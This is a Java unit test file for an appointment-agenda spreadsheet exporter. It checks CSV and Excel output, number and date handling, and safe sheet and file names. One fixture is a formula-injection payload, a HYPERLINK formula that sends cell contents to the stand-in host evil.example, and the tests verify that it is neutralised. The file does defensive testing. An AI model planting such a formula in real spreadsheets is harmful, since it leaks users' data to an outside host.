package mx.gob.inm.citas.adapters.web.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/** The files are read back as a spreadsheet program would, and hold what the sheet held, nothing more. */
class SheetWritersTest {

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Ver\")";

    private final Sheet agenda = new Sheet("agenda-qroo-cancun-2026-12-01",
            List.of("Oficina: Cancún (qroo-cancun)", "Día: 2026-12-01", "Generado: 2026-12-01 10:15 America/Cancun"),
            List.of("Hora", "Código", "Solicitante", "Pasaporte", "Lugares", "Día"),
            List.of(Arrays.asList("09:00", "ABC-1234", "Lucía Ramírez Soto", "0561234567", 561234567, LocalDate.of(2026,
                    12, 1)),
                    Arrays.asList("09:30", "DEF-5678", HYPERLINK, "G1234567", 2.5, null),
                    Arrays.asList("10:00", "GHI-9012", "+52 998 123 4567", "-12", new BigDecimal("1E+3"), null),
                    Arrays.asList("10:30", "JKL-3456", "@SUM(A1)", "\tTAB", -7L, null),
                    Arrays.asList("11:00", "MNO-7890", "Pérez, \"Lupita\"\nsegunda línea", "\rCR", 0.1f, null)));

    @Test
    void the_csv_is_utf8_with_a_bom_its_preamble_on_top_and_crlf_line_ends() throws IOException {
        byte[] bytes = csv(agenda);

        assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        String text = new String(bytes, StandardCharsets.UTF_8).substring(1);
        assertThat(text).startsWith("Oficina: Cancún (qroo-cancun)\r\nDía: 2026-12-01\r\n"
                + "Generado: 2026-12-01 10:15 America/Cancun\r\n\r\nHora,Código,Solicitante,Pasaporte,Lugares,Día\r\n");
        assertThat(List.of(text.split("\r\n", -1))).hasSize(4 + 1 + 5 + 1).last().isEqualTo("");
    }

    @Test
    void a_passport_of_digits_keeps_its_leading_zero_and_numbers_are_written_plainly() throws IOException {
        String text = new String(csv(agenda), StandardCharsets.UTF_8);

        assertThat(text).contains("\r\n09:00,ABC-1234,Lucía Ramírez Soto,0561234567,561234567,2026-12-01\r\n")
                .contains(",G1234567,2.5,\r\n").contains(",1000,\r\n").contains(",-7,\r\n").contains(",0.1,")
                .doesNotContain("E8", "E+3", "5.61234567");
    }

    @Test
    void a_text_cell_a_spreadsheet_would_run_as_a_formula_starts_with_an_apostrophe_in_the_csv()
            throws IOException {
        String text = new String(csv(agenda), StandardCharsets.UTF_8);

        assertThat(text).contains(",\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Ver\"\")\",")
                .contains(",'+52 998 123 4567,'-12,").contains(",'@SUM(A1),'\tTAB,")
                .contains(",\"Pérez, \"\"Lupita\"\"\nsegunda línea\",\"'\rCR\",");
        for (String line : text.split("\r\n")) {
            for (String field : line.split(",")) {
                assertThat(field).as("a field in " + line).doesNotStartWith("=").doesNotStartWith("\"=")
                        .doesNotStartWith("@").doesNotStartWith("+");
            }
        }
    }

    @Test
    void in_excel_text_stays_text_with_its_zero_and_a_formula_typed_by_someone_is_only_words() throws IOException {
        try (XSSFWorkbook workbook = xlsx(agenda)) {
            XSSFSheet tab = workbook.getSheetAt(0);
            assertThat(tab.getSheetName()).isEqualTo("agenda-qroo-cancun-2026-12-01");
            Cell passport = tab.getRow(5).getCell(3);
            Cell hyperlink = tab.getRow(6).getCell(2);

            assertThat(passport.getCellType()).isEqualTo(CellType.STRING);
            assertThat(passport.getStringCellValue()).isEqualTo("0561234567");
            assertThat(passport.getCellStyle().getDataFormatString()).as("formatted as text").isEqualTo("@");
            assertThat(hyperlink.getCellType()).as("never a formula").isEqualTo(CellType.STRING);
            assertThat(hyperlink.getStringCellValue()).isEqualTo(HYPERLINK);
            assertThat(tab.getRow(7).getCell(3).getStringCellValue()).isEqualTo("-12");
            for (Row row : tab) {
                for (Cell cell : row) {
                    assertThat(cell.getCellType()).as(cell.getAddress().formatAsString())
                            .isNotEqualTo(CellType.FORMULA);
                }
            }
        }
    }

    @Test
    void in_excel_numbers_are_numeric_cells_and_dates_date_cells() throws IOException {
        try (XSSFWorkbook workbook = xlsx(agenda)) {
            XSSFSheet tab = workbook.getSheetAt(0);
            Cell places = tab.getRow(5).getCell(4);
            Cell day = tab.getRow(5).getCell(5);

            assertThat(places.getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(places.getNumericCellValue()).isEqualTo(561234567d);
            assertThat(tab.getRow(6).getCell(4).getNumericCellValue()).isEqualTo(2.5);
            assertThat(tab.getRow(8).getCell(4).getNumericCellValue()).isEqualTo(-7d);
            assertThat(day.getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(DateUtil.isCellDateFormatted(day)).isTrue();
            assertThat(day.getLocalDateTimeCellValue().toLocalDate()).isEqualTo(LocalDate.of(2026, 12, 1));
            assertThat(tab.getRow(6).getCell(5)).as("an empty cell").isNull();
        }
    }

    @Test
    void in_excel_the_preamble_is_on_top_then_an_empty_row_then_the_bold_header_row() throws IOException {
        try (XSSFWorkbook workbook = xlsx(agenda)) {
            XSSFSheet tab = workbook.getSheetAt(0);

            assertThat(tab.getRow(0).getCell(0).getStringCellValue()).isEqualTo("Oficina: Cancún (qroo-cancun)");
            assertThat(tab.getRow(1).getCell(0).getStringCellValue()).isEqualTo("Día: 2026-12-01");
            assertThat(tab.getRow(2).getCell(0).getStringCellValue())
                    .isEqualTo("Generado: 2026-12-01 10:15 America/Cancun");
            assertThat((Object) tab.getRow(3)).as("an empty row").isNull();
            Cell header = tab.getRow(4).getCell(1);
            assertThat(header.getStringCellValue()).isEqualTo("Código");
            assertThat(workbook.getFontAt(header.getCellStyle().getFontIndex()).getBold()).isTrue();
            assertThat(tab.getLastRowNum()).isEqualTo(4 + 5);
        }
    }

    @Test
    void a_sheet_without_preamble_starts_with_its_headers() throws IOException {
        Sheet plain = new Sheet("x", List.of(), List.of("A"), List.of(List.of("1")));

        assertThat(new String(csv(plain), StandardCharsets.UTF_8)).isEqualTo("\uFEFFA\r\n1\r\n");
        try (XSSFWorkbook workbook = xlsx(plain)) {
            assertThat(workbook.getSheetAt(0).getRow(0).getCell(0).getStringCellValue()).isEqualTo("A");
        }
    }

    @Test
    void a_sheet_holds_only_text_numbers_dates_and_empty_cells() {
        assertThatThrownBy(() -> new Sheet("x", List.of(), List.of("A"), List.of(List.of(new Object()))))
                .isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> new Sheet("x", List.of(), List.of("A"), List.of(List.of(Double.NaN))))
                .isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> new Sheet(" ", List.of(), List.of("A"), List.of()))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void in_excel_every_character_a_person_typed_comes_back_as_typed() throws IOException {
        List<Object> typed = Arrays.asList("a & b < c > d \"e\" 'f'", "línea\r\nsegunda\tcol", "_x0041_ no es A",
                "campana \u0007 y nulo \u0000", "😀 ñ Ω", "");
        List<String> headers = new java.util.ArrayList<>();
        for (int c = 0; c < 30; c++) {
            headers.add("H" + c);
        }
        List<Object> wide = new java.util.ArrayList<>(java.util.Collections.nCopies(29, null));
        wide.add("AD");
        Sheet sheet = new Sheet("Agenda: [Cancún]/día*?\\'una pestaña de nombre muy largo'", List.of(), headers,
                List.of(typed, wide));

        try (XSSFWorkbook workbook = xlsx(sheet)) {
            XSSFSheet tab = workbook.getSheetAt(0);
            assertThat(tab.getSheetName()).as("at most 31 characters, none Excel refuses")
                    .isEqualTo("Agenda   Cancún  día   'una pes");
            for (int c = 0; c < typed.size(); c++) {
                assertThat(tab.getRow(1).getCell(c).getStringCellValue()).as("cell " + c).isEqualTo(typed.get(c));
            }
            assertThat(tab.getRow(2).getCell(29).getStringCellValue()).isEqualTo("AD");
            assertThat(tab.getRow(2).getCell(29).getAddress().formatAsString()).isEqualTo("AD3");
            assertThat(tab.getRow(0).getCell(25).getAddress().formatAsString()).isEqualTo("Z1");
            assertThat(tab.getColumnWidth(1)).as("the widest cell of column B, in characters")
                    .isEqualTo((typed.get(1).toString().length() + 2) * 256);
            assertThat(tab.getColumnWidth(5)).as("at least 8 characters").isEqualTo(10 * 256);
        }
        assertThat(Workbook.column(0)).isEqualTo("A");
        assertThat(Workbook.column(26)).isEqualTo("AA");
        assertThat(Workbook.column(701)).isEqualTo("ZZ");
        assertThat(Workbook.column(702)).isEqualTo("AAA");
        assertThat(Workbook.tabName("''")).isEqualTo("Hoja");
        assertThat(Workbook.tabName("'citas'")).as("no apostrophe first or last").isEqualTo("citas");
    }

    @Test
    void the_file_is_named_after_the_sheet_in_letters_every_browser_keeps() {
        assertThat(SheetDownload.fileName(agenda, Format.CSV)).isEqualTo("agenda-qroo-cancun-2026-12-01.csv");
        assertThat(SheetDownload.fileName(new Sheet("Agenda Cancún/\"día\"", List.of(), List.of(), List.of()),
                Format.XLSX)).isEqualTo("Agenda-Cancun-dia-.xlsx");
        assertThat(SheetDownload.fileName(new Sheet("../..", List.of(), List.of(), List.of()), Format.CSV))
                .isEqualTo("export.csv");
        assertThat(Format.CSV.contentType()).isEqualTo("text/csv; charset=UTF-8");
        assertThat(Format.XLSX.contentType())
                .isEqualTo("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    }

    private static byte[] csv(Sheet sheet) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        SheetWriters.csv(sheet, out);
        return out.toByteArray();
    }

    private static XSSFWorkbook xlsx(Sheet sheet) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        SheetWriters.xlsx(sheet, out);
        return new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()));
    }
}
